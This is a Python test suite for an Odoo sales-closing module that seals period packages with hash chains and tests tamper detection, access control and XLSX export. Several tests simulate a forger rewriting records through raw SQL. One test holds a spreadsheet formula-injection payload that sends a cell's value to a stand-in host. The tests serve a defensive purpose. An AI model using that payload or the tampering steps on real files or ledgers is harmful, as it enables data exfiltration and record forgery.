import io
import json
from datetime import date, datetime

import openpyxl
from psycopg2 import errors as pg_errors

from odoo import SUPERUSER_ID, api
from odoo.exceptions import AccessError, UserError
from odoo.tests import TransactionCase, tagged
from odoo.tools import mute_logger

from ..engine import package as package_engine
from .common import SalesClosingCase


@tagged("post_install", "-at_install")
class TestClosingPackage(SalesClosingCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.Package = cls.env["sales.closing.package"]
        cls.customer = cls.env["res.partner"].create(
            {"name": "Package Customer", "country_id": cls.env.ref("base.be").id}
        )
        cls.product = cls.env["product.product"].create(
            {"name": "Package Service", "type": "service", "list_price": 100.0}
        )
        cls.order = cls._confirmed_order(datetime(2026, 1, 10, 9, 0), qty=3)
        cls._confirmed_order(datetime(2026, 2, 3, 9, 0), qty=1)  # next period
        cls.invoice = cls._posted_move("out_invoice", date(2026, 1, 20), 250.0)
        cls.refund = cls._posted_move("out_refund", date(2026, 1, 22), 40.0)
        cls._pay(cls.invoice, date(2026, 1, 25), 100.0)
        # paid after the period end: still open at 2026-01-31
        cls._pay(cls.invoice, date(2026, 2, 5), cls.invoice.amount_residual)
        cls._close(cls.period)
        cls.package = cls.period.package_ids

    @classmethod
    def _confirmed_order(cls, when, qty):
        order = cls.env["sale.order"].create(
            {
                "partner_id": cls.customer.id,
                "order_line": [
                    (0, 0, {"product_id": cls.product.id, "product_uom_qty": qty})
                ],
            }
        )
        order.action_confirm()
        order.date_order = when
        return order

    @classmethod
    def _posted_move(cls, move_type, day, price):
        move = cls.env["account.move"].create(
            {
                "move_type": move_type,
                "partner_id": cls.customer.id,
                "invoice_date": day,
                "invoice_line_ids": [
                    (0, 0, {"product_id": cls.product.id, "price_unit": price})
                ],
            }
        )
        move.action_post()
        return move

    @classmethod
    def _close(cls, period):
        period.action_run_checks()
        lines = period.check_line_ids
        lines.filtered(lambda line: line.is_manual).write({"status": "ok"})
        failed = lines.filtered(lambda line: line.status == "failed")
        failed.write({"waiver_reason": "package test"})
        failed.with_user(cls.manager).action_waive()
        if "flux_line_ids" in period._fields:
            period.flux_line_ids.write({"explanation": "package test"})
        period.with_user(cls.manager).action_close()

    def _money(self, value):
        return f"{value:.2f}"

    def _tamper_sql(self, package, column, value):
        self.env.flush_all()
        self.env.cr.execute(
            f"UPDATE sales_closing_package SET {column} = %s WHERE id = %s",  # noqa: S608
            (value, package.id),
        )
        self.env.invalidate_all()

    # ------------------------------------------------------------------
    def test_package_made_at_close_with_figures(self):
        package = self.package
        self.assertEqual(len(package), 1)
        self.assertEqual(package.version, 1)
        self.assertEqual(package.company_id, self.company)
        self.assertEqual(self.period.package_count, 1)
        data = json.loads(package.snapshot)
        invoicing = data["invoicing"]
        self.assertEqual(invoicing["invoiced"]["count"], 1)
        self.assertEqual(
            invoicing["invoiced"]["untaxed"],
            self._money(self.invoice.amount_untaxed_signed),
        )
        self.assertEqual(
            invoicing["credit_notes"]["untaxed"],
            self._money(self.refund.amount_untaxed_signed),
        )
        self.assertEqual(
            invoicing["taxes"],
            self._money(self.invoice.amount_tax_signed + self.refund.amount_tax_signed),
        )
        self.assertEqual(data["collected"], {"count": 1, "amount": "100.00"})
        # sales of January only, per customer and country
        self.assertEqual(data["sales"]["total"], "300.00")
        self.assertEqual(
            [(row["key"], row["amount"]) for row in data["sales"]["by_customer"]],
            [("Package Customer", "300.00")],
        )
        self.assertEqual(data["sales"]["by_country"][0]["name"], "Belgium")
        # open receivables as of the period end, not today's
        self.assertEqual(self.invoice.amount_residual, 0.0)
        expected = self.invoice.amount_total_signed - 100.0
        expected += self.refund.amount_total_signed
        rows = data["receivables"]["partners"]
        self.assertEqual(len(rows), 1)
        self.assertEqual(rows[0]["total"], self._money(expected))
        self.assertEqual(data["receivables"]["totals"]["total"], self._money(expected))
        codes = {check["key"]: check for check in data["checks"]}
        self.assertEqual(codes["review_commissions"]["status"], "ok")
        self.assertIn("bank", data)

    def test_figures_use_a_constant_number_of_queries(self):
        def add_order(name, user):
            customer = self.env["res.partner"].create({"name": name})
            order = self.env["sale.order"].create(
                {
                    "partner_id": customer.id,
                    "user_id": user.id,
                    "order_line": [(0, 0, {"product_id": self.product.id})],
                }
            )
            order.action_confirm()
            order.date_order = datetime(2026, 1, 15)
            self.env.flush_all()

        def count_queries():
            self.env.invalidate_all()
            before = self.env.cr.sql_log_count
            self.Package._snapshot(self.period, 1)
            return self.env.cr.sql_log_count - before

        add_order("Extra Customer", self.manager)
        first = count_queries()
        for index in range(3):
            add_order(f"More Customer {index}", self.accountant)
        self.assertEqual(count_queries(), first)
        data = self.Package._snapshot(self.period, 1)
        self.assertEqual(len(data["sales"]["by_customer"]), 5)
        self.assertEqual(len(data["sales"]["by_salesperson"]), 3)

    def test_hashes_match_engine(self):
        package = self.package
        data = json.loads(package.snapshot)
        self.assertEqual(package.snapshot, package_engine.canonical_json(data).decode())
        self.assertEqual(package.snapshot_hash, package_engine.content_hash(data))
        pdf = package.pdf_attachment_id
        xlsx = package.xlsx_attachment_id
        self.assertEqual((pdf.res_model, pdf.res_id), (package._name, package.id))
        self.assertEqual(package.pdf_hash, package_engine.file_hash(pdf.raw))
        self.assertEqual(package.xlsx_hash, package_engine.file_hash(xlsx.raw))
        # format 2: the content hash also covers the package row
        self.assertEqual(package.hash_version, 2)
        sealed = {
            "snapshot": data,
            "files": {"pdf": package.pdf_hash, "xlsx": package.xlsx_hash},
            "hash_version": 2,
            "package": {
                "id": package.id,
                "company_id": self.company.id,
                "period_id": self.period.id,
                "date_from": "2026-01-01",
                "date_to": "2026-01-31",
                "version": 1,
                "snapshot_hash": package.snapshot_hash,
                "diff": "",
                "diff_count": 0,
                "previous_package_id": None,
                "previous_chain_hash": "",
                "pdf_attachment_id": pdf.id,
                "xlsx_attachment_id": xlsx.id,
            },
        }
        self.assertEqual(package.content_hash, package_engine.content_hash(sealed))
        self.assertEqual(
            package.chain_hash,
            package_engine.chain_hash(
                package.content_hash, package.previous_chain_hash
            ),
        )
        self.assertIn(b"Package Customer", pdf.raw)

    def test_xlsx_has_a_sheet_per_section(self):
        raw = self.package.xlsx_attachment_id.raw
        workbook = openpyxl.load_workbook(io.BytesIO(raw))
        self.assertEqual(
            workbook.sheetnames,
            [
                "Summary",
                "Sales by Salesperson",
                "Sales by Product Category",
                "Sales by Customer",
                "Sales by Country",
                "Sales by Region",
                "Invoicing",
                "Receivables",
                "Bank",
                "Checks",
            ],
        )
        customers = workbook["Sales by Customer"]
        self.assertEqual(customers["A2"].value, "Package Customer")
        self.assertEqual(customers["B2"].value, 300.0)

    def test_verify_ok(self):
        self.package.action_verify()
        self.assertEqual(self.package.verify_state, "ok")
        self.assertTrue(self.package.verify_date)
        self.assertIn("verified", self.period.message_ids[0].body)

    def test_modified_pdf_is_caught(self):
        self.package.pdf_attachment_id.sudo().write({"raw": b"forged report"})
        self.package.action_verify()
        self.assertEqual(self.package.verify_state, "tampered")
        self.assertIn("PDF attachment modified", self.package.verify_message)
        self.assertNotIn("XLSX", self.package.verify_message)

    def test_modified_xlsx_is_caught(self):
        self.package.xlsx_attachment_id.sudo().write({"raw": b"forged sheet"})
        self.package.action_verify()
        self.assertIn("XLSX attachment modified", self.package.verify_message)

    def test_modified_snapshot_is_caught(self):
        forged = self.package.snapshot.replace('"300.00"', '"30.00"')
        self.assertNotEqual(forged, self.package.snapshot)
        self._tamper_sql(self.package, "snapshot", forged)
        self.package.action_verify()
        self.assertEqual(self.package.verify_state, "tampered")
        self.assertIn("Snapshot modified", self.package.verify_message)

    def test_rewritten_hashes_are_caught(self):
        # the forger also rewrites the stored snapshot hash: the content
        # hash (covering the snapshot) still catches it
        forged = self.package.snapshot.replace('"300.00"', '"30.00"')
        self._tamper_sql(self.package, "snapshot", forged)
        self._tamper_sql(
            self.package,
            "snapshot_hash",
            package_engine.content_hash(json.loads(forged)),
        )
        self.package.action_verify()
        self.assertEqual(self.package.verify_state, "tampered")
        self.assertIn("Stored hashes rewritten", self.package.verify_message)

    def test_chain_to_next_period(self):
        february = self.Period.create(
            {
                "name": "2026-02",
                "date_from": date(2026, 2, 1),
                "date_to": date(2026, 2, 28),
            }
        )
        self._close(february)
        second = february.package_ids
        self.assertEqual(second.previous_package_id, self.package)
        self.assertEqual(second.previous_chain_hash, self.package.chain_hash)
        self.assertEqual(json.loads(second.snapshot)["sales"]["total"], "100.00")
        second.action_verify()
        self.assertEqual(second.verify_state, "ok")
        # tampering with January breaks February's verification
        self.package.pdf_attachment_id.sudo().write({"raw": b"forged"})
        second.action_verify()
        self.assertEqual(second.verify_state, "tampered")
        self.assertIn("Previous package 2026-01 v1", second.verify_message)
        self.assertIn("PDF attachment modified", second.verify_message)
        # and so does rewriting January's chain hash
        self.package.pdf_attachment_id.sudo().write({"raw": b"other forged"})
        self._tamper_sql(self.package, "chain_hash", "0" * 64)
        self._tamper_sql(
            self.package,
            "pdf_hash",
            package_engine.file_hash(b"other forged"),
        )
        second.action_verify()
        self.assertIn("Chain broken", second.verify_message)

    def test_reclose_makes_version_2_with_diff(self):
        self.period.sudo().state = "reopened"
        self._confirmed_order(datetime(2026, 1, 28, 9, 0), qty=2)
        self._close(self.period)
        packages = self.period.package_ids.sorted("version")
        self.assertEqual(packages.mapped("version"), [1, 2])
        second = packages[1]
        self.assertEqual(second.previous_package_id, packages[0])
        self.assertEqual(second.previous_chain_hash, packages[0].chain_hash)
        self.assertNotEqual(second.pdf_attachment_id, packages[0].pdf_attachment_id)
        self.assertIn("sales.total", second.diff)
        self.assertIn("500.00", second.diff)
        self.assertNotIn("meta.", second.diff)
        self.assertTrue(second.diff_count >= 1)
        self.assertFalse(packages[0].diff)
        second.action_verify()
        self.assertEqual(second.verify_state, "ok")

    def test_never_overwritten(self):
        package = self.package.sudo()
        for vals in (
            {"snapshot": "{}"},
            {"pdf_hash": "0" * 64},
            {"version": 3},
            {"pdf_attachment_id": False},
            {"period_id": self.other_company_period.id},
        ):
            with self.assertRaisesRegex(UserError, "sealed"):
                package.write(vals)
        with self.assertRaises(UserError):
            package.unlink()
        with self.assertRaises(AccessError):
            self.package.with_user(self.manager).write({"verify_state": "ok"})

    def test_auditor_reads_and_verifies_but_cannot_create(self):
        package = self.package.with_user(self.auditor)
        self.assertEqual(self.Package.with_user(self.auditor).search([]), package)
        self.assertTrue(package.snapshot)
        package.action_verify()
        self.assertEqual(package.verify_state, "ok")
        with self.assertRaises(AccessError):
            self.Package.with_user(self.auditor).create(
                {
                    "period_id": self.period.id,
                    "company_id": self.company.id,
                    "date_from": self.period.date_from,
                    "version": 9,
                }
            )
        with self.assertRaises(AccessError):
            self.Package.with_user(self.manager).create(
                {
                    "period_id": self.period.id,
                    "company_id": self.company.id,
                    "date_from": self.period.date_from,
                    "version": 9,
                }
            )
        with self.assertRaises(AccessError):
            package.pdf_attachment_id.write({"raw": b"forged"})

    def test_sales_user_cannot_read_or_verify(self):
        with self.assertRaises(AccessError):
            self.package.with_user(self.sales_user).read(["snapshot"])
        with self.assertRaises(AccessError):
            self.package.with_user(self.sales_user).action_verify()

    # ------------------------------------------------------------------
    # The chain covers the package fields, versions and head (issue #19)
    # ------------------------------------------------------------------
    def _february(self):
        february = self.Period.create(
            {
                "name": "2026-02",
                "date_from": date(2026, 2, 1),
                "date_to": date(2026, 2, 28),
            }
        )
        self._close(february)
        return february.package_ids

    def test_company_head_is_the_newest_package(self):
        self.assertEqual(self.company.sales_closing_package_head_id, self.package)
        self.assertEqual(
            self.company.sales_closing_package_head_hash, self.package.chain_hash
        )
        second = self._february()
        self.assertEqual(self.company.sales_closing_package_head_id, second)
        # only the sealing workflow writes the head
        for user in (self.manager, self.env.ref("base.user_admin")):
            with self.assertRaises(AccessError):
                self.company.with_user(user).write(
                    {"sales_closing_package_head_hash": "0" * 64}
                )

    def test_tampered_package_fields_are_caught(self):
        for column, value in (
            ("version", 7),
            ("diff", "<p>nothing changed</p>"),
            ("diff_count", 3),
            ("date_from", "2025-01-01"),
        ):
            with self.subTest(column=column):
                self.env.flush_all()
                self.env.cr.execute(
                    f"SELECT {column} FROM sales_closing_package WHERE id = %s",  # noqa: S608
                    [self.package.id],
                )
                original = self.env.cr.fetchone()[0]
                self._tamper_sql(self.package, column, value)
                self.package.action_verify()
                self.assertEqual(self.package.verify_state, "tampered")
                self.assertIn("Stored hashes rewritten", self.package.verify_message)
                self._tamper_sql(self.package, column, original)
                self.package.action_verify()
                self.assertEqual(self.package.verify_state, "ok")

    def test_period_dates_changed_after_the_close_are_caught(self):
        self.env.flush_all()
        self.env.cr.execute(
            "UPDATE sales_closing_period SET date_to = '2026-01-30' WHERE id = %s",
            [self.period.id],
        )
        self.env.invalidate_all()
        self.package.action_verify()
        self.assertEqual(self.package.verify_state, "tampered")

    def test_deleted_newest_package_is_caught(self):
        second = self._february()
        second_id = second.id
        self.env.flush_all()
        # a forger with database access deletes February's package, moving
        # the company's head off it so that the foreign key lets them
        self.env.cr.execute(
            "UPDATE res_company SET sales_closing_package_head_id = NULL WHERE id = %s",
            [self.company.id],
        )
        self.env.cr.execute(
            "DELETE FROM sales_closing_package WHERE id = %s", [second_id]
        )
        self.env.invalidate_all()
        self.package.action_verify()
        self.assertEqual(self.package.verify_state, "tampered")
        self.assertIn("not the chain head", self.package.verify_message)
        # even when the forger points the head back at January: its hash is
        # February's, which the auditor holds, and no longer January's
        self.env.cr.execute(
            "UPDATE res_company SET sales_closing_package_head_id = %s WHERE id = %s",
            [self.package.id, self.company.id],
        )
        self.env.invalidate_all()
        self.package.action_verify()
        self.assertIn("not the chain head", self.package.verify_message)

    def test_version_gap_is_caught(self):
        self.period.sudo().state = "reopened"
        self._close(self.period)
        second = self.period.package_ids.sorted("version")[1]
        self._tamper_sql(second, "version", 3)
        self.package.action_verify()
        self.assertEqual(self.package.verify_state, "tampered")
        self.assertIn("not 1 to 2", self.package.verify_message)

    def test_package_out_of_sealing_order_is_caught(self):
        second = self._february()
        self.assertEqual(second.previous_package_id, self.package)
        # relinking February to nothing, with its hashes recomputed as a
        # forger would: its own hashes match, the sealing order does not
        self._tamper_sql(second, "previous_package_id", None)
        self._tamper_sql(second, "previous_chain_hash", "")
        content = package_engine.content_hash(
            second._sealed_content(json.loads(second.snapshot))
        )
        chain = package_engine.chain_hash(content, "")
        self._tamper_sql(second, "content_hash", content)
        self._tamper_sql(second, "chain_hash", chain)
        self.env.cr.execute(
            "UPDATE res_company SET sales_closing_package_head_hash = %s WHERE id = %s",
            [chain, self.company.id],
        )
        self.env.invalidate_all()
        second.action_verify()
        self.assertEqual(second.verify_state, "tampered")
        self.assertIn("does not follow", second.verify_message)

    def test_legacy_packages_still_verify(self):
        # a package sealed before format 2 (the migration marks it 1)
        package = self.package
        legacy = package_engine.content_hash(
            {
                "snapshot": json.loads(package.snapshot),
                "files": {"pdf": package.pdf_hash, "xlsx": package.xlsx_hash},
            }
        )
        chain = package_engine.chain_hash(legacy, "")
        self._tamper_sql(package, "hash_version", 1)
        self._tamper_sql(package, "content_hash", legacy)
        self._tamper_sql(package, "chain_hash", chain)
        self.env.cr.execute(
            "UPDATE res_company SET sales_closing_package_head_hash = %s WHERE id = %s",
            [chain, self.company.id],
        )
        self.env.invalidate_all()
        package.action_verify()
        self.assertEqual(package.verify_state, "ok", package.verify_message)
        # the next package is of format 2 and chains to it
        second = self._february()
        self.assertEqual(second.hash_version, 2)
        self.assertEqual(second.previous_chain_hash, chain)
        second.action_verify()
        self.assertEqual(second.verify_state, "ok", second.verify_message)
        # but a format 2 package cannot claim the legacy format
        self._tamper_sql(second, "hash_version", 1)
        second.action_verify()
        self.assertEqual(second.verify_state, "tampered")

    def test_head_hash_emailed_to_auditor(self):
        self.company.sales_closing_auditor_email = "auditor@example.com"
        second = self._february()
        mail = self.env["mail.mail"].search(
            [("model", "=", second._name), ("res_id", "=", second.id)]
        )
        self.assertEqual(mail.email_to, "auditor@example.com")
        self.assertIn(second.chain_hash, mail.body_html)
        self.assertIn("2026-02", mail.subject)
        # no address, no email
        self.company.sales_closing_auditor_email = False
        self.period.sudo().state = "reopened"
        self._close(self.period)
        third = self.period.package_ids.sorted("version")[-1]
        self.assertFalse(
            self.env["mail.mail"].search(
                [("model", "=", third._name), ("res_id", "=", third.id)]
            )
        )

    def test_xlsx_text_is_never_a_formula(self):
        formula = '=HYPERLINK("http://x/?"&B9,"Open")'
        self.customer.name = formula
        second = self._february()
        workbook = openpyxl.load_workbook(io.BytesIO(second.xlsx_attachment_id.raw))
        cells = [
            cell
            for row in workbook["Sales by Customer"].iter_rows()
            for cell in row
            if isinstance(cell.value, str) and formula in cell.value
        ]
        self.assertTrue(cells)
        for cell in cells:
            self.assertEqual(cell.data_type, "s")
            self.assertEqual(cell.value, "'" + formula)


@tagged("post_install", "-at_install")
class TestPackageSealingLock(TransactionCase):
    """Found by the fault-injection run (tests/benchmarks/faults.py): a
    package sealed by a queue job held the company row FOR UPDATE while its
    PDF rendered; every other worker creating a document of the company
    (the foreign key check locks the company row FOR KEY SHARE) waited on
    it, and wkhtmltopdf, asking the same server for the report's assets,
    waited on those workers: the seal never finished."""

    def test_sealing_lets_the_company_documents_be_written(self):
        with self.registry.cursor() as cr_a, self.registry.cursor() as cr_b:
            env_a = api.Environment(cr_a, SUPERUSER_ID, {})
            env_b = api.Environment(cr_b, SUPERUSER_ID, {})
            company = env_a.company
            period = env_a["sales.closing.period"]._create_for(
                company, date(2019, 3, 15), "month"
            )
            package = env_a["sales.closing.package"].sudo()._create_for_period(period)
            self.assertTrue(package.chain_hash)
            env_a.flush_all()
            # A's transaction is still open (the seal is not committed)
            cr_b.execute("SET lock_timeout = '3s'")  # a wait is a failure
            partner = env_b["res.partner"].create(
                {"name": "Written while a package is sealed", "company_id": company.id}
            )
            env_b.flush_all()
            self.assertTrue(partner.id)
            # a second seal of the same company still waits for the first
            with (
                mute_logger("odoo.sql_db"),
                self.assertRaises(pg_errors.LockNotAvailable),
            ):
                cr_b.execute(
                    "SELECT id FROM res_company WHERE id = %s FOR NO KEY UPDATE NOWAIT",
                    [company.id],
                )
            cr_b.rollback()
            cr_a.rollback()
